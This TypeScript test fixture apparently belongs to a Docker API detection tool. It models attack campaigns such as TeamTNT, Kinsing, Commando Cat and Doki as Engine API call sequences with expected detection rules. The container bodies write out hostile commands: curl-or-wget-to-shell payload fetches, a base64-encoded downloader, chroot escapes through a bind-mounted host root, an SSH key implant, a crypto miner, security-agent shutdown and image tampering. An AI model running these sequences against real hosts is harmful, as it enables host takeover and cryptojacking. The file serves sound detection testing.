/**
 * Docker Engine API attack campaigns, each modelled on the sequence of API calls
 * a public report describes (payload details simplified; documentation-range
 * addresses replace live infrastructure unless the report's indicator is cited).
 * A scenario test drives each through a collector against the real dockerd and
 * checks the expected findings. No registry is reachable here, so pulls fail
 * and images that do not exist locally make `create` fail with 404: the audit
 * events still carry every parameter, which is what detection needs.
 */

export interface StepContext {
  /** Ids saved by earlier steps (`save`). */
  ids: Record<string, string>;
}

export interface CampaignStep {
  method: string;
  /** May contain `{ctr}`-style placeholders filled from saved ids. */
  path: string;
  body?: unknown;
  /** Save the `Id` of the JSON answer under this name. */
  save?: string;
}

export interface Campaign {
  id: string;
  title: string;
  references: string[];
  /** The attacker's client: a distinct loopback source address through the proxy. */
  client: { localAddress: string; userAgent: string };
  steps: CampaignStep[];
  /** Rule ids (Sigma id or baseline id) that must raise at least one finding. */
  expectedRules: string[];
}

const DOCKER_UA = 'Docker-Client/19.03.12 (linux)';
const GO_UA = 'Go-http-client/1.1';
/** A prune filter that matches no object (see evasion-and-destruction). */
const PRUNE_NOTHING = encodeURIComponent(JSON.stringify({ label: ['dockguard.scenario=never-set'] }));
const PRUNE_NOTHING_IMAGES = encodeURIComponent(
  JSON.stringify({ dangling: ['false'], label: ['dockguard.scenario=never-set'] }),
);

export const CAMPAIGNS: Campaign[] = [
  {
    id: 'seed-xmrig-chroot',
    title: 'The seed article: pull alpine, create a container that chroots into the host root and runs curl | bash',
    references: ['../shared/seed/docker-api-abuse-article.txt'],
    client: { localAddress: '127.0.0.66', userAgent: GO_UA },
    steps: [
      { method: 'POST', path: '/v1.41/images/create?fromImage=alpine&tag=latest' },
      {
        method: 'POST',
        path: '/v1.41/containers/create',
        body: {
          Image: 'alpine',
          Cmd: ['chroot', '/mnt', '/bin/sh', '-c', 'curl -sL4 http://198.51.100.23/m.sh | bash'],
          HostConfig: { Binds: ['/:/mnt'], NetworkMode: 'none' },
        },
        save: 'ctr',
      },
      { method: 'POST', path: '/v1.41/containers/{ctr}/start' },
    ],
    expectedRules: [
      '31f23350-0051-4b0b-8fc2-45b1f7d7a831', // chroot into a mounted host path
      '56abf52d-f5bd-49c2-b477-30c53bfdd15d', // host root bind-mounted writable
      'af7557bb-94b5-4162-8e98-fac9490ec695', // download and execute
      'ba8f42a4-0612-4ef5-89ef-f8c11917fd6c', // pull, create, start by one client (correlation)
      'dockguard-threat-intel', // 198.51.100.23 in the sample indicators
    ],
  },
  {
    id: 'teamtnt-ssh-key-implant',
    title: 'TeamTNT: probe the API, run a privileged container with the host root mounted and plant an SSH key',
    references: ['https://attack.mitre.org/groups/G0139/', 'https://attack.mitre.org/techniques/T1098/004/'],
    client: { localAddress: '127.0.0.67', userAgent: DOCKER_UA },
    steps: [
      { method: 'GET', path: '/version' },
      { method: 'GET', path: '/info' },
      { method: 'GET', path: '/containers/json?all=1' },
      { method: 'POST', path: '/images/create?fromImage=alpineos%2Fdockerapi&tag=latest' },
      {
        method: 'POST',
        path: '/containers/create',
        body: {
          Image: 'alpine',
          Cmd: [
            'chroot',
            '/host',
            'sh',
            '-c',
            'mkdir -p /root/.ssh && echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC0tnt attacker >> /root/.ssh/authorized_keys',
          ],
          HostConfig: { Binds: ['/:/host'], Privileged: true, NetworkMode: 'none' },
        },
        save: 'ctr',
      },
    ],
    expectedRules: [
      '081e2009-89ec-41fc-aa73-c4aba49ff069', // known campaign indicator (alpineos/dockerapi)
      '31f23350-0051-4b0b-8fc2-45b1f7d7a831', // chroot into a mounted host path
      '238f9206-5419-45ee-8ea0-c4ab8d24740d', // SSH authorized key written
      '56abf52d-f5bd-49c2-b477-30c53bfdd15d', // host root bind-mounted writable
      'fe1c37b7-ecf4-469f-a18d-8ef097462658', // privileged container
    ],
  },
  {
    id: 'kinsing-ubuntu-wget-sh',
    title: 'Kinsing: an Ubuntu container that installs cron and pipes a downloaded script into sh',
    references: ['https://blog.aquasec.com/threat-alert-kinsing-malware-container-vulnerability'],
    client: { localAddress: '127.0.0.68', userAgent: GO_UA },
    steps: [
      { method: 'POST', path: '/images/create?fromImage=ubuntu&tag=latest' },
      {
        method: 'POST',
        path: '/containers/create',
        body: {
          Image: 'ubuntu:latest',
          Cmd: [
            '/bin/bash',
            '-c',
            'apt-get update && apt-get install -y wget cron;service cron start; wget -q -O - 142.44.191.122/d.sh | sh;tail -f /dev/null',
          ],
        },
      },
    ],
    expectedRules: [
      'af7557bb-94b5-4162-8e98-fac9490ec695', // wget | sh
    ],
  },
  {
    id: 'commando-cat-base64',
    title: 'Commando Cat: cmd.cat images, the host root bind-mounted and a base64-encoded payload run through chroot',
    references: [
      'https://www.cadosecurity.com/blog/commando-cat-a-novel-cryptojacking-attack-targeting-docker-api-endpoints',
    ],
    client: { localAddress: '127.0.0.69', userAgent: GO_UA },
    steps: [
      { method: 'GET', path: '/_ping' },
      { method: 'POST', path: '/images/create?fromImage=cmd.cat%2Fchattr&tag=latest' },
      {
        method: 'POST',
        path: '/containers/create',
        body: {
          Image: 'cmd.cat/chattr',
          Cmd: [
            'chroot',
            '/mnt',
            'sh',
            '-c',
            'echo Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC45L2Iuc2ggfCBzaA== | base64 -d | sh',
          ],
          HostConfig: { Binds: ['/:/mnt'], Privileged: true },
        },
      },
    ],
    expectedRules: [
      '081e2009-89ec-41fc-aa73-c4aba49ff069', // known campaign indicator (cmd.cat)
      '31f23350-0051-4b0b-8fc2-45b1f7d7a831', // chroot into a mounted host path
      '2c60cd9d-93ac-4b63-b695-ae70bc3933bd', // base64-decoded payload executed
      '56abf52d-f5bd-49c2-b477-30c53bfdd15d', // host root bind-mounted writable
      'fe1c37b7-ecf4-469f-a18d-8ef097462658', // privileged container
    ],
  },
  {
    id: 'graboid-worm',
    title: 'Graboid: a worm pulls its docker-client image and runs a miner image from Docker Hub',
    references: [
      'https://unit42.paloaltonetworks.com/graboid-first-ever-cryptojacking-worm-found-in-images-on-docker-hub/',
    ],
    client: { localAddress: '127.0.0.70', userAgent: DOCKER_UA },
    steps: [
      { method: 'POST', path: '/images/create?fromImage=pocosow%2Fcentos&tag=7.6.1810' },
      { method: 'POST', path: '/containers/create', body: { Image: 'pocosow/centos:7.6.1810' } },
      { method: 'POST', path: '/images/create?fromImage=gakeaws%2Fnginx&tag=8.9' },
      { method: 'POST', path: '/containers/create', body: { Image: 'gakeaws/nginx:8.9' } },
    ],
    expectedRules: [
      '081e2009-89ec-41fc-aa73-c4aba49ff069', // known campaign indicator (pocosow/centos, gakeaws/nginx)
    ],
  },
  {
    id: 'doki-ngrok',
    title:
      'Doki: an alpine container with the host root under /tmp, chroot into it and fetch a payload from an ngrok URL',
    references: [
      'https://www.intezer.com/blog/research/watch-your-containers-doki-infecting-docker-servers-in-the-cloud/',
    ],
    client: { localAddress: '127.0.0.71', userAgent: GO_UA },
    steps: [
      {
        method: 'POST',
        path: '/containers/create',
        body: {
          Image: 'alpine:latest',
          Cmd: [
            'chroot',
            '/tmp',
            'sh',
            '-c',
            'curl --retry 3 -m 60 -o /tmp/x http://7f3a9c.ngrok.io/x && chmod +x /tmp/x && /tmp/x',
          ],
          HostConfig: { Binds: ['/:/tmp'], NetworkMode: 'none' },
        },
        save: 'ctr',
      },
      { method: 'POST', path: '/containers/{ctr}/start' },
    ],
    expectedRules: [
      '31f23350-0051-4b0b-8fc2-45b1f7d7a831', // chroot into a mounted host path
      '56abf52d-f5bd-49c2-b477-30c53bfdd15d', // host root bind-mounted writable
      // Missing from the pack (reported): download to a file, chmod +x and run it
      // (`curl -o f && chmod +x f && f`, no pipe), and tunnelling domains (*.ngrok.io) as indicators.
    ],
  },
  {
    id: 'cetus-masscan',
    title: 'Cetus: an Ubuntu container installs masscan and docker to spread, with a miner disguised as docker-cache',
    references: ['https://unit42.paloaltonetworks.com/cetus-cryptojacking-worm/'],
    client: { localAddress: '127.0.0.72', userAgent: DOCKER_UA },
    steps: [
      {
        method: 'POST',
        path: '/containers/create',
        body: {
          Image: 'ubuntu:18.04',
          Cmd: [
            'bash',
            '-c',
            'apt-get update && apt-get install -y masscan docker.io && wget -O /usr/bin/docker-cache http://198.51.100.40/portainer && chmod +x /usr/bin/docker-cache && /usr/bin/docker-cache -o stratum+tcp://pool.supportxmr.com:3333 --donate-level 1',
          ],
        },
      },
    ],
    expectedRules: [
      '7ed70469-85c1-4600-be0b-3c231acfa5c8', // miner started
      '30f68a1b-07b8-4c9a-88c9-d8c73b701e89', // mining pool address
      '1d84fc1b-9037-477c-8993-f9426ae023c5', // internet scanner (masscan)
      'dockguard-threat-intel', // 198.51.100.40 in the sample indicators
    ],
  },
  {
    id: 'xmrig-miner-image',
    title: 'Cryptojacking from a public miner image with pool flags and restart policy always',
    references: ['https://attack.mitre.org/techniques/T1496/'],
    client: { localAddress: '127.0.0.73', userAgent: GO_UA },
    steps: [
      { method: 'POST', path: '/images/create?fromImage=metal3d%2Fxmrig&tag=latest' },
      {
        method: 'POST',
        path: '/containers/create?name=systemd-journal',
        body: {
          Image: 'metal3d/xmrig:latest',
          Cmd: ['xmrig', '-o', 'stratum+tcp://xmr.pool.example:443', '-u', '4AbCd', '--cpu-max-threads-hint', '90'],
          HostConfig: { RestartPolicy: { Name: 'always' } },
        },
      },
    ],
    expectedRules: [
      'ac6981a7-d64b-4603-86aa-512e1c0ae6f6', // miner image pulled or run
      '7ed70469-85c1-4600-be0b-3c231acfa5c8', // miner started
      '662accc7-b35b-4206-bdbb-c5a7ed2fc385', // restart always under a system-looking name
    ],
  },
  {
    id: 'lateral-discovery-exec',
    title: 'Lateral movement inside the data centre: discovery burst, container inspect for secrets, interactive exec',
    references: ['https://attack.mitre.org/techniques/T1613/', 'https://attack.mitre.org/techniques/T1552/007/'],
    client: { localAddress: '127.0.0.74', userAgent: DOCKER_UA },
    steps: [
      { method: 'GET', path: '/info' },
      { method: 'GET', path: '/version' },
      { method: 'GET', path: '/containers/json?all=1' },
      { method: 'GET', path: '/images/json' },
      { method: 'GET', path: '/networks' },
      { method: 'GET', path: '/volumes' },
      {
        method: 'POST',
        path: '/containers/create?name=victim-app',
        body: { Image: 'alpine', Cmd: ['sleep', '300'], HostConfig: { NetworkMode: 'none' } },
        save: 'ctr',
      },
      { method: 'POST', path: '/containers/{ctr}/start' },
      { method: 'GET', path: '/containers/{ctr}/json' },
      {
        method: 'POST',
        path: '/containers/{ctr}/exec',
        body: { Cmd: ['/bin/sh'], AttachStdin: true, AttachStdout: true, AttachStderr: true, Tty: true, User: 'root' },
        save: 'exec',
      },
    ],
    expectedRules: [
      '2b645f9c-9223-44ab-beb2-05c3152fb6c3', // discovery burst (correlation)
      '7578718a-0da1-450c-a47f-7a49d8935493', // discovery then create (correlation)
      '4838617d-ca4a-4c81-85c0-5482d93b0862', // create then exec by one client (correlation)
      '5a66c48d-310d-4224-9e97-81d89285d4de', // exec as root
      'afd07929-5bd2-4d33-aaf5-16e5d7243b4c', // interactive shell exec
    ],
  },
  {
    id: 'evasion-and-destruction',
    title: 'Defence evasion and destruction: stop the security agent, then prune and force-remove containers',
    references: ['https://attack.mitre.org/techniques/T1562/001/', 'https://attack.mitre.org/techniques/T1485/'],
    client: { localAddress: '127.0.0.75', userAgent: GO_UA },
    steps: [
      {
        method: 'POST',
        path: '/containers/create?name=falco',
        body: { Image: 'alpine', Cmd: ['sleep', '300'], HostConfig: { NetworkMode: 'none' } },
        save: 'agent',
      },
      { method: 'POST', path: '/containers/{agent}/start' },
      { method: 'POST', path: '/containers/falco/stop?t=0' },
      { method: 'DELETE', path: '/containers/falco?force=1' },
      // The attacker prunes everything. Here each prune is scoped by a label no object
      // carries: the daemon is shared (other suites' stopped containers, volumes and the
      // test image itself), and the rules read only the endpoint, not the filters.
      { method: 'POST', path: `/containers/prune?filters=${PRUNE_NOTHING}` },
      { method: 'POST', path: `/volumes/prune?filters=${PRUNE_NOTHING}` },
      { method: 'POST', path: `/images/prune?filters=${PRUNE_NOTHING_IMAGES}` },
    ],
    expectedRules: [
      'd1869d46-28ea-4075-9123-67d18b0c6a51', // security agent stopped
      '3196ab8b-da82-43e7-abd5-ed9ca21a97e2', // containers and images pruned
      '6c54465b-ee89-491b-8815-ae601a9c5a0f', // volumes pruned
    ],
  },
  {
    id: 'image-implant',
    title: 'Implant an internal image: commit a tampered container, push it, build from a remote context',
    references: ['https://attack.mitre.org/techniques/T1525/'],
    client: { localAddress: '127.0.0.76', userAgent: DOCKER_UA },
    steps: [
      {
        method: 'POST',
        path: '/containers/create',
        body: { Image: 'alpine', Cmd: ['sh', '-c', 'echo implanted > /etc/motd'], HostConfig: { NetworkMode: 'none' } },
        save: 'ctr',
      },
      { method: 'POST', path: '/commit?container={ctr}&repo=registry.internal.example%2Fbase%2Falpine&tag=latest' },
      { method: 'POST', path: '/images/registry.internal.example/base/alpine/push?tag=latest' },
      { method: 'POST', path: '/build?remote=http%3A%2F%2F198.51.100.50%2Fctx.tar.gz&t=base%2Fapp%3Alatest' },
    ],
    expectedRules: [
      '1ff4e56f-1451-439c-ab97-f52e6ba247a3', // container committed to an image
      '364d1847-8158-4612-a9dd-0ca6a5b03810', // commit then push by one client (correlation)
      '32b7b75e-8126-4827-af6c-1d66db86e166', // build from a remote URL
      'dockguard-threat-intel', // 198.51.100.50 in the sample indicators
    ],
  },
];
